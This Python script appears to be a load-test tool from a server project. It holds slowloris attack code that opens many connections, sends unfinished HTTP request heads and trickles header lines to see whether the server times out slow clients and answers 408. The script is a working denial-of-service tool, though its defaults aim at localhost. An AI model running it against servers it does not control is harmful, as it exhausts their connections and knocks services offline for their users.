#!/usr/bin/env python3
"""slowloris.py — connections that dribble a request head and never end it.

The slow-client part of a hostile load (issue 8): it opens --count
connections to HOST:PORT from --source, sends the first line of a GET and
then one more header line every --interval seconds, never the blank line
that ends the head.  A connection the server closes (408 or not) is
counted and opened again, until --seconds have passed.

Command line (prints one JSON object when done):

    slowloris.py --host 127.0.0.1 --port 8080 [--count 200]
                 [--seconds 10] [--interval 1] [--source 127.0.0.3]

The JSON result: opened, closed_by_server, answered_408 (closes that
came with a 408 status line), connect_errors, header_lines_sent.
"""
import argparse
import json
import socket
import time


def open_one(host, port, source):
    """A connection that has sent a request line and a Host, or None."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.bind((source, 0))
        s.settimeout(2)
        s.connect((host, port))
        s.sendall(b"GET / HTTP/1.1\r\nHost: slowloris\r\n")
        s.setblocking(False)
        return s
    except OSError:
        s.close()
        return None


def closed(s):
    """(closed, said_408): has the server ended s, and with a 408?  Any
    bytes from the server count as its end: a head never finished can only
    be answered by a refusal, after which the server closes."""
    try:
        data = s.recv(4096)
    except BlockingIOError:
        return False, False
    except OSError:
        return True, False
    return True, data.startswith(b"HTTP/1.1 408")


def dribble(host, port, count, seconds, interval=1.0, source="127.0.0.3"):
    """Keep count slow connections going for seconds; the result as a dict."""
    result = {"opened": 0, "closed_by_server": 0, "answered_408": 0,
              "connect_errors": 0, "header_lines_sent": 0}
    conns = []
    end = time.monotonic() + seconds
    line = 0
    while time.monotonic() < end:
        while len(conns) < count:
            s = open_one(host, port, source)
            if s is None:
                result["connect_errors"] += 1
                break
            conns.append(s)
            result["opened"] += 1
        keep = []
        for s in conns:
            gone, said_408 = closed(s)
            if not gone:
                try:
                    s.send(b"X-Slow-%d: x\r\n" % line)
                    result["header_lines_sent"] += 1
                    keep.append(s)
                    continue
                except OSError:
                    pass
            result["closed_by_server"] += 1
            result["answered_408"] += said_408
            s.close()
        conns = keep
        line += 1
        time.sleep(min(interval, max(0.0, end - time.monotonic())))
    for s in conns:
        s.close()
    return result


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--count", type=int, default=200)
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--interval", type=float, default=1.0)
    p.add_argument("--source", default="127.0.0.3")
    a = p.parse_args()
    print(json.dumps(dribble(a.host, a.port, a.count, a.seconds, a.interval, a.source)))


if __name__ == "__main__":
    main()
